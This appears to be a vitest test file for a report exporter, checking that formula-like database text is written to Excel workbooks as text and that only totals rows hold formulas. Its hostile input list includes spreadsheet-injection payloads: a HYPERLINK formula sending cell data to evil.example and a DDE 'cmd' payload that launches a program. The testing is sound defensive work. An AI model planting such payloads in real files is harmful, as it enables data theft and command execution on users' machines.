import ExcelJS from 'exceljs';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { generateDatabase } from '../../mock-api/seed/generate';
import { parseReportParams } from '../../reports/core/params';
import { runReport, sheetsOf } from '../../reports/core/run';
import { tableRecordSource } from '../../reports/core/sources/table';
import type { CellType, ReportRecord, SheetSpec } from '../../reports/core/types';
import { buildWorkbookBlob } from '../../reports/core/xlsx/browser';
import { isNumericType } from '../../reports/core/xlsx/format';
import { writeWorkbookFile } from '../../reports/core/xlsx/node';
import { REPORTS } from '../../reports/index';
import { RESOURCES } from '../../src/resources/index';

/**
 * Spreadsheet injection (issue 7, point 7): text from the database that starts with `= + - @`,
 * tab or CR must reach a workbook as text, never as a formula, and formatted as text so that
 * editing the cell cannot turn it into one; numbers stay numbers. Files are written by the real
 * writers (streaming Node writer, in-browser writer) and read back with exceljs.
 */

const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
  "=cmd|' /C calc'!A0",
  '+86 138 0000 0000',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];
const TRIGGER = /^[=+\-@\t\r\n]/;
/** Totals rows are the only formulas the writers put in a sheet. */
const TOTAL_FORMULA = /^(SUM|COUNTA|AVERAGE)\(([A-Z]+)(\d+):\2(\d+)\)$/;

const dir = mkdtempSync(join(tmpdir(), 'injection-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

interface Findings {
  /** Cells holding text that starts like a formula. */
  hostile: number;
  /** Formula cells, all checked to be totals. */
  totals: number;
  /** Numeric-typed cells holding a number. */
  numbers: number;
}

/**
 * Checks every cell of a workbook read back: formulas only as totals over the column's own data
 * in the last row; text that starts like a formula a string cell formatted as text; cells of
 * numeric columns numbers (or empty). `types[sheet][column]` comes from the specs written.
 */
function inspect(workbook: ExcelJS.Workbook, specs: readonly SheetSpec[]): Findings {
  const found: Findings = { hostile: 0, totals: 0, numbers: 0 };
  workbook.worksheets.forEach((ws, s) => {
    const types: CellType[] = specs[s].columns.map((c) => c.type);
    const headerRow = (specs[s].caption?.length ?? 0) + 1;
    ws.eachRow({ includeEmpty: false }, (row, r) => {
      row.eachCell({ includeEmpty: false }, (cell, c) => {
        const where = `${ws.name}!${cell.address}`;
        if (cell.type === ExcelJS.ValueType.Formula) {
          const m = TOTAL_FORMULA.exec(cell.formula);
          expect(m, `${where}: ${cell.formula}`).not.toBeNull();
          expect(r, `${where} is a formula outside the totals row`).toBe(ws.rowCount);
          expect([Number(m?.[3]), Number(m?.[4])], where).toEqual([headerRow + 1, r - 1]);
          found.totals++;
          return;
        }
        if (typeof cell.value === 'string' && TRIGGER.test(cell.value)) {
          expect(cell.type, where).toBe(ExcelJS.ValueType.String);
          expect(cell.numFmt, `${where} "${cell.value}" is not formatted as text`).toBe('@');
          found.hostile++;
        } else if (r > headerRow && isNumericType(types[c - 1]) && cell.value !== null) {
          expect(cell.type, `${where} of a ${types[c - 1]} column`).toBe(ExcelJS.ValueType.Number);
          found.numbers++;
        }
      });
    });
  });
  return found;
}

async function readFile(file: string): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(file);
  return workbook;
}

interface Row {
  name: string;
  amount: number | string;
  count: number;
  day: string;
}

const ROWS: Row[] = HOSTILE.map((name, i) => ({
  name,
  // A number column whose value is text (written as text rather than lost) and negative numbers.
  amount: i === 0 ? '=2+2' : -1.5 * i,
  count: 3 - i,
  day: i === 1 ? '-2026-03-01' : '2026-03-01',
}));

function spec(): SheetSpec {
  return {
    name: { zh: '注入', en: 'Injection' },
    caption: ['=HYPERLINK("http://evil.example","机构")', '@caption'],
    totalsLabel: { zh: '合计', en: 'Total' },
    columns: [
      { key: 'name', header: { zh: '名称', en: 'Name' }, type: 'text', value: (r) => (r as Row).name },
      {
        key: 'amount',
        header: { zh: '金额', en: 'Amount' },
        type: 'money',
        value: (r) => (r as Row).amount,
        total: 'sum',
      },
      {
        key: 'count',
        header: { zh: '次数', en: 'Count' },
        type: 'integer',
        value: (r) => (r as Row).count,
        total: 'sum',
      },
      { key: 'day', header: { zh: '日期', en: 'Day' }, type: 'date', value: (r) => (r as Row).day },
    ],
    rows: ROWS,
  };
}

function expectRowsAsWritten(ws: ExcelJS.Worksheet): void {
  // caption 2 lines, header on row 3, data from row 4
  expect(ws.getCell('A1').value).toBe('=HYPERLINK("http://evil.example","机构")');
  ROWS.forEach((row, i) => {
    const cells = ws.getRow(4 + i);
    // CR is an XML line end: a parser may hand it back as LF; the text after it is intact.
    expect(String(cells.getCell(1).value).replace(/^\n/, '\r')).toBe(row.name);
    expect(cells.getCell(2).value).toBe(row.amount);
    expect(cells.getCell(3).value).toBe(row.count);
  });
  expect(ws.getCell('B4').numFmt).toBe('@');
  expect(ws.getCell('B5').numFmt).toBe('#,##0.00');
  const totals = ws.getRow(4 + ROWS.length);
  expect(totals.getCell(2).value).toMatchObject({ formula: 'SUM(B4:B11)', result: -1.5 * 28 });
  expect(totals.getCell(3).value).toMatchObject({ formula: 'SUM(C4:C11)', result: 3 * 8 - 28 });
}

describe('a workbook of hostile text', () => {
  it('stays text through the streaming writer; numbers stay numbers; totals are the only formulas', async () => {
    const file = join(dir, 'node.xlsx');
    await writeWorkbookFile([spec()], 'zh', file);
    const workbook = await readFile(file);
    const found = inspect(workbook, [spec()]);
    expectRowsAsWritten(workbook.worksheets[0]);
    // 8 names, 2 captions, '=2+2' in the money column, '-2026-03-01' in the date column
    expect(found.hostile).toBe(12);
    expect(found.totals).toBe(2);
    // 7 amounts (negative) and 8 counts (3 … -4)
    expect(found.numbers).toBe(7 + 8);
  });

  it('stays text through the in-browser writer too', async () => {
    const blob = await buildWorkbookBlob([spec()], 'en');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await blob.arrayBuffer());
    const found = inspect(workbook, [spec()]);
    expectRowsAsWritten(workbook.worksheets[0]);
    expect(found).toEqual({ hostile: 12, totals: 2, numbers: 15 });
  });
});

/** The demo seed with every free-text field (text without a format) starting like a formula. */
function poisonedTables(): Record<string, ReportRecord[]> {
  const db = generateDatabase({ size: 'demo', today: '2026-11-20' }) as Record<string, ReportRecord[]>;
  let n = 0;
  for (const resource of RESOURCES) {
    const fields = resource.fields.filter((f) => f.type === 'text' && !('pattern' in f && f.pattern));
    for (const row of db[resource.name] ?? [])
      for (const f of fields)
        if (typeof row[f.name] === 'string') row[f.name] = `${HOSTILE[n++ % HOSTILE.length]}${row[f.name]}`;
  }
  return db;
}

describe('every report of the product over poisoned data', () => {
  it(
    'writes the poisoned names, descriptions and causes as text, never as formulas',
    { timeout: 240_000 },
    async () => {
      const tables = poisonedTables();
      const source = tableRecordSource((name) => tables[name] ?? []);
      const branch = String(tables.branches[0].code);
      let hostile = 0;
      for (const report of REPORTS) {
        for (const raw of [{ month: '2026-10' }, { month: '2026-10', branch }]) {
          const parsed = parseReportParams(raw, 'zh', new Date('2026-11-20T04:00:00Z'));
          if (!parsed.ok) throw new Error(JSON.stringify(parsed.errors));
          const run = await runReport(report, source, parsed.params, 'zh');
          const sheets = sheetsOf(report, run, 'zh');
          const file = join(dir, `${report.name}-${raw.branch ?? 'all'}.xlsx`);
          await writeWorkbookFile(sheets, 'zh', file);
          const found = inspect(await readFile(file), sheets);
          hostile += found.hostile;
        }
      }
      // The poison reached the workbooks (a check that found nothing would prove nothing).
      expect(hostile).toBeGreaterThan(100);
    },
  );
});
